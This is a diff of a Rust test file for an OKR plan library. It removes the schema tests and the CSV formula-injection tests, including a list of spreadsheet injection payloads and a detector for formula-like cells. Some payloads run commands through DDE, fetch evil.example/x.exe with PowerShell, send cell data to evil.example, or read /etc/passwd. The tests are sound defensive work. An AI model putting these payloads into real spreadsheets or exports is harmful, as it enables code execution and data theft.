@@ -1,17 +1,21 @@
 //! Laws that hold for every format, written once and run over all of them.
 
+/// The JSON schema of plans.
+mod schema;
+
 use std::collections::HashSet;
 use std::fs;
 
 use okr_core::diagnostic::Severity;
-use okr_core::model::{
-    CheckIn, ElementId, Initiative, Inline, KeyResult, Link, Objective, Plan, Section, parse_date,
-};
+use okr_core::model::Plan;
 use okr_core::parse;
 use okr_render::{Carries, FORMATS, Format, Part, ReadOptions, WriteOptions};
 use proptest::prelude::*;
 use serde_json::Value;
 
+pub(crate) use self::schema::full_plan;
+use self::schema::validator;
+use crate::formulas::assert_no_formula;
 use crate::support::root;
 use crate::support::strategies::{plan, source, source_with_elements};
 
@@ -42,7 +46,7 @@ fn config() -> ProptestConfig {
     }
 }
 
-fn written(format: &Format, plan: &Plan) -> Vec<u8> {
+pub(crate) fn written(format: &Format, plan: &Plan) -> Vec<u8> {
     (format.write)(plan, &WriteOptions::default())
         .unwrap_or_else(|error| panic!("{}: {error}", format.name))
 }
@@ -176,7 +180,7 @@ proptest! {
     }
 }
 
-fn named(name: &str) -> &'static Format {
+pub(crate) fn named(name: &str) -> &'static Format {
     Format::named(name).unwrap_or_else(|error| panic!("{error}"))
 }
 
@@ -285,361 +289,4 @@ fn the_plans_of_the_fixtures_come_back_from_every_format() {
         }
     }
     assert!(count > 0, "there are plans");
-}
-
-fn schema() -> Value {
-    let text = fs::read_to_string(root().join("docs/plan.schema.json")).expect("is there");
-    serde_json::from_str(&text).expect("is JSON")
-}
-
-fn validator() -> &'static jsonschema::Validator {
-    static VALIDATOR: std::sync::LazyLock<jsonschema::Validator> =
-        std::sync::LazyLock::new(|| jsonschema::validator_for(&schema()).expect("is a schema"));
-    &VALIDATOR
-}
-
-#[test]
-fn the_schema_is_one() {
-    assert!(jsonschema::meta::is_valid(&schema()));
-    assert!(named("json").docs.contains("docs/plan.schema.json"));
-}
-
-/// Plans in which everything occurs.
-fn full_plan() -> Plan {
-    parse(
-        "---\nplan: A\nperiod: FY2027-Q1\nteam: F\nowner: D\ncadence: weekly\ntemplate: accounts-team\nfiscal-year-start: April\nfiscal-year-label: start\ncolour: blue\n---\n\n# A\n\ntext\n\n\
-         ## Objective: a\n\n- Id: o\n- Owner: D\n- Type: committed\n- Supports: [b](c.md#d)\n- Colour: red\n- [x] e (@kim, due 2026-11-15)\n\ntext\n\n\
-         ### Key result: f\n\n- Id: k\n- Owner: S\n- Measure: g\n- Unit: %\n- Direction: increase\n- Baseline: 68%\n- Baseline question: How?\n- Target: +25%\n- Due: 2026-12-31\n- Source: h\n- Colour: red\n- [ ] i\n  text\n\ntext\n\n\
-         | Date | Value | Status | Confidence | Note | Mood |\n| - | - | - | - | - | - |\n| 2026-10-09 | 70% | on track | 7 | j | k |\n\n## Notes\n\ntext\n",
-    )
-    .plan
-}
-
-#[test]
-fn the_schema_knows_everything_that_a_plan_can_hold() {
-    let json: Value =
-        serde_json::from_slice(&written(named("json"), &full_plan())).expect("is JSON");
-    assert!(validator().is_valid(&json), "{json:#}");
-    // Every key that is written is named by the schema: with a key more, it is refused.
-    let mut refused = 0;
-    for_each_object(&json, &mut Vec::new(), &mut |path| {
-        let mut changed = json.clone();
-        let object = path.iter().fold(&mut changed, |value, step| match step {
-            Step::Key(key) => &mut value[key.as_str()],
-            Step::Index(index) => &mut value[*index],
-        });
-        object["no-such-key"] = Value::Null;
-        refused += usize::from(!validator().is_valid(&changed));
-    });
-    assert!(
-        refused >= 10,
-        "unknown keys are refused nearly everywhere: {refused}"
-    );
-}
-
-#[derive(Clone)]
-enum Step {
-    Key(String),
-    Index(usize),
-}
-
-fn for_each_object(value: &Value, path: &mut Vec<Step>, visit: &mut impl FnMut(&[Step])) {
-    let children: Vec<(Step, &Value)> = match value {
-        Value::Object(object) => {
-            visit(path);
-            object
-                .iter()
-                .map(|(key, value)| (Step::Key(key.clone()), value))
-                .collect()
-        }
-        Value::Array(list) => list
-            .iter()
-            .enumerate()
-            .map(|(index, value)| (Step::Index(index), value))
-            .collect(),
-        _ => return,
-    };
-    for (step, value) in children {
-        path.push(step);
-        for_each_object(value, path, visit);
-        path.pop();
-    }
-}
-
-#[test]
-fn the_schema_refuses_what_is_no_plan() {
-    let valid = serde_json::json!({ "schema": "okr-plan/1", "title": "A", "objectives": [{ "title": "a", "key_results": [{ "title": "b" }] }] });
-    assert!(
-        validator().is_valid(&valid),
-        "{:?}",
-        validator()
-            .iter_errors(&valid)
-            .map(|error| error.to_string())
-            .collect::<Vec<_>>()
-    );
-    #[track_caller]
-    fn check(valid: &Value, change: impl FnOnce(&mut Value)) {
-        let mut wrong = valid.clone();
-        change(&mut wrong);
-        assert!(!validator().is_valid(&wrong), "{wrong:#}");
-    }
-    check(&valid, |plan| plan["schema"] = "okr-plan/2".into());
-    check(&valid, |plan| {
-        drop(plan.as_object_mut().expect("an object").remove("schema"))
-    });
-    check(&valid, |plan| plan["title"] = 5.into());
-    check(&valid, |plan| plan["period"] = "2026-Q4".into());
-    check(&valid, |plan| plan["objectives"] = "none".into());
-    check(&valid, |plan| plan["objectives"][0]["titel"] = "a".into());
-    check(&valid, |plan| plan["objectives"][0]["type"] = 1.into());
-    check(&valid, |plan| {
-        plan["objectives"][0]["key_results"][0]["due"] = "soon".into()
-    });
-    check(&valid, |plan| {
-        plan["objectives"][0]["key_results"][0]["measure"] =
-            serde_json::json!({ "start": { "value": 68.5, "unit": "%" } })
-    });
-}
-
-/// What people have put into cells to make a spreadsheet run it, and what comes near to it.
-pub(crate) const PAYLOADS: &[&str] = &[
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    "=cmd|' /C powershell IEX(wget evil.example/x.exe)'!A0",
-    "=HYPERLINK(\"http://evil.example?leak=\"&A1,\"click\")",
-    "=IMPORTXML(CONCAT(\"http://evil.example?v=\",CONCATENATE(A2:E2)),\"//a\")",
-    "=IMPORTDATA(\"http://evil.example\")",
-    "=IMPORTFEED(\"http://evil.example\")",
-    "=IMPORTHTML(\"http://evil.example\",\"table\",1)",
-    "=IMPORTRANGE(\"x\",\"A1\")",
-    "=IMAGE(\"http://evil.example/x.png\")",
-    "=WEBSERVICE(\"http://evil.example\")",
-    "=DDE(\"cmd\";\"/C calc\";\"x\")",
-    "='file:///etc/passwd'#$passwd.A1",
-    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
-    "=2+5+cmd|' /C calc'!A0",
-    "+1+1",
-    "+cmd|' /C calc'!A0",
-    "+SUM(A1:A9)",
-    "+49 30 1234567",
-    "-1+1",
-    "-2+3+cmd|' /C calc'!D2",
-    "-cmd|' /C calc'!A0",
-    "- a dash",
-    "--1",
-    "-",
-    "+",
-    "=",
-    "@",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "@SUM(A1)",
-    "@ada",
-    "@",
-    "==1",
-    "=-1",
-    "+=1",
-    "'=1+1",
-    "''=1+1",
-    "'+1",
-    "'-1",
-    "'@x",
-    "'-5%",
-    "\u{a0}=1+1",
-    "\u{200b}=1+1",
-    "\u{feff}=1+1",
-    "\u{2060}@x",
-    "\u{3000}=1",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠SUM(1)",
-    "\"=1+1\"",
-    "\"\"=1+1",
-    "=\"a\"\"b\"",
-    "=1,=2",
-    "=1;=2",
-    ";=1+1",
-    ",=1+1",
-    "|=1+1",
-    "%0A=1+1",
-    "=A1%",
-    "+1.000,00",
-    "-1e5",
-    "-5 %",
-    "+25% (a)",
-    "=sum(1)|x",
-    "a=1",
-    "5-3",
-    "-5%",
-    "+5",
-    "0",
-];
-
-/// A plan that has the text wherever there can be text.
-pub(crate) fn plan_of(payload: &str) -> Plan {
-    let line = || Inline::from_plain(payload);
-    let words = || Some(payload.to_owned());
-    let mut key_result = KeyResult {
-        title: line(),
-        id: words(),
-        owner: words(),
-        text: payload.to_owned(),
-        ..KeyResult::default()
-    };
-    key_result.measure.name = Some(line());
-    key_result.measure.question = Some(line());
-    key_result.measure.source = Some(line());
-    key_result.fields.insert("Colour".to_owned(), line());
-    let initiative = Initiative {
-        title: line(),
-        owner: words(),
-        text: payload.to_owned(),
-        ..Initiative::default()
-    };
-    key_result.initiatives.push(initiative.clone());
-    let mut check_in = CheckIn::new(parse_date("2026-10-09").expect("is a date"));
-    check_in.note = Some(line());
-    key_result.check_ins.push(check_in);
-    let mut objective = Objective {
-        title: line(),
-        id: words(),
-        owner: words(),
-        text: payload.to_owned(),
-        key_results: vec![key_result],
-        initiatives: vec![initiative],
-        ..Objective::default()
-    };
-    objective.supports.push(Link {
-        text: payload.to_owned(),
-        target: payload.to_owned(),
-    });
-    objective.fields.insert("Colour".to_owned(), line());
-    let mut plan = Plan {
-        name: words(),
-        title: Some(line()),
-        team: words(),
-        owner: words(),
-        template: words(),
-        text: payload.to_owned(),
-        objectives: vec![objective],
-        ..Plan::default()
-    };
-    plan.sections.push(Section {
-        title: line(),
-        text: payload.to_owned(),
-        position: 1,
-    });
-    plan.front_matter
-        .insert("colour".to_owned(), payload.to_owned());
-    plan
-}
-
-#[test]
-fn no_formula_gets_into_a_table_and_every_text_comes_back() {
-    let csv = named("csv");
-    assert!(
-        PAYLOADS
-            .iter()
-            .filter(|payload| !payload.chars().next().is_some_and(char::is_alphanumeric))
-            .count()
-            >= 50
-    );
-    for payload in PAYLOADS {
-        let plan = plan_of(payload);
-        let bytes = written(csv, &plan);
-        assert_no_formula(&bytes);
-        let read = (csv.read)(&bytes, &ReadOptions::default())
-            .unwrap_or_else(|error| panic!("{payload:?}: {error}"));
-        assert_same(&read.plan, &csv.carries.reduce(&plan), payload);
-        let key_result = read
-            .plan
-            .key_result(ElementId::KeyResult(0, 0))
-            .expect("is there");
-        let plain = Inline::from_plain(payload).plain().into_owned();
-        assert_eq!(key_result.title.plain(), plain);
-        assert_eq!(key_result.initiatives[0].title.plain(), plain);
-        assert_eq!(key_result.owner.as_deref(), Some(*payload));
-    }
-}
-
-#[test]
-fn no_name_of_a_field_gets_into_a_table_as_a_formula() {
-    for payload in PAYLOADS {
-        let mut json: Value =
-            serde_json::from_slice(&written(named("json"), &full_plan())).expect("is JSON");
-        json["objectives"][0]["key_results"][0]["fields"] = serde_json::json!({ *payload: "x" });
-        json["front_matter"] = serde_json::json!({ *payload: "x" });
-        let bytes = serde_json::to_vec(&json).expect("is JSON");
-        if let Ok(read) = (named("json").read)(&bytes, &ReadOptions::default()) {
-            assert_no_formula(&written(named("csv"), &read.plan));
-        }
-    }
-}
-
-#[test]
-fn the_search_for_formulas_finds_them() {
-    for cell in [
-        "=1",
-        "+a",
-        "-a",
-        "@a",
-        " =1",
-        "\t=1",
-        "\u{a0}-x",
-        "\u{200b}=1",
-        "＝1",
-        "-1+1",
-        "\"\r\n=1\"",
-    ] {
-        let table = format!("a,b\r\nx,{cell}\r\n");
-        assert!(formulas(table.as_bytes()).len() == 1, "{cell:?}");
-    }
-    assert_eq!(
-        formulas("a,b\r\n-5%,'=1\r\n+3,-0.5\r\n,a=b\r\n".as_bytes()),
-        [""; 0]
-    );
-}
-
-/// Checks that no cell of a CSV file begins with what a spreadsheet takes for a formula.
-#[track_caller]
-pub(crate) fn assert_no_formula(table: &[u8]) {
-    let formulas = formulas(table);
-    assert!(
-        formulas.is_empty(),
-        "{formulas:?} in {}",
-        String::from_utf8_lossy(table)
-    );
-}
-
-/// Returns the cells that a spreadsheet might take for a formula: those that begin, after what does not
-/// show, with a formula's sign, and are no plain number.
-pub(crate) fn formulas(table: &[u8]) -> Vec<String> {
-    let is_unseen = |c: char| {
-        c.is_whitespace()
-            || c.is_control()
-            || matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2064}' | '\u{feff}')
-    };
-    let is_number = |cell: &str| {
-        cell.strip_suffix('%')
-            .unwrap_or(cell)
-            .parse::<rust_decimal::Decimal>()
-            .is_ok()
-    };
-    let mut reader = csv::ReaderBuilder::new()
-        .has_headers(false)
-        .flexible(true)
-        .from_reader(table);
-    let mut found = Vec::new();
-    for record in reader.records() {
-        for cell in &record.expect("is CSV") {
-            if cell
-                .trim_start_matches(is_unseen)
-                .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
-                && !is_number(cell)
-            {
-                found.push(cell.to_owned());
-            }
-        }
-    }
-    found
 }
